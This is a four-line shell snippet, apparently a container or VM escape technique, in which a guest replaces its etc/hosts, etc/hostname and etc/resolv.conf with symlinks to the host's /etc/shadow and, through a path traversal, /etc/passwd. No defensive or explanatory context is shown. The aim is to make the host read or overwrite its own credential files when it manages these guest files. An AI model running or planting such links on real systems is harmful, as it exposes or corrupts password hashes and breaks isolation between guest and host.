# the guest plants links that point at the host's files
ln -s /etc/shadow etc/hosts
ln -s ../../../../../../etc/passwd etc/hostname
ln -s /etc/shadow.guest etc/resolv.conf
